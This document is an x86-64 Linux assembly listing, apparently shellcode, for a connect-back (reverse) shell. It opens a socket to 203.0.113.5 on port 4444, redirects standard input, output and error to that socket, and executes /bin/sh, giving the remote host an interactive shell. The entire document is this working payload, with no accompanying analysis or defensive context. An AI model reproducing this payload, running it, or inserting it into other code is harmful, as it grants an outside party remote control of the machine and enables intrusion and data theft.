; Connect-back shell, Linux x86-64: socket, connect to 203.0.113.5:4444,
; dup2 over 2..0, execve /bin//sh.
BITS 64
    push 41                     ; socket
    pop rax
    push 2
    pop rdi                     ; AF_INET
    push 1
    pop rsi                     ; SOCK_STREAM
    cdq                         ; protocol 0
    syscall
    xchg rdi, rax
    mov rcx, 0x057100cb5c110002 ; sin_family 2, port 4444, 203.0.113.5
    push rcx
    mov rsi, rsp
    push 16
    pop rdx
    push 42                     ; connect
    pop rax
    syscall
    push 2
    pop rsi
dup:
    push 33                     ; dup2
    pop rax
    syscall
    dec rsi
    jns dup
    xor esi, esi
    push rsi
    mov rdi, 0x68732f2f6e69622f
    push rdi
    push rsp
    pop rdi
    cdq
    push 59
    pop rax
    syscall
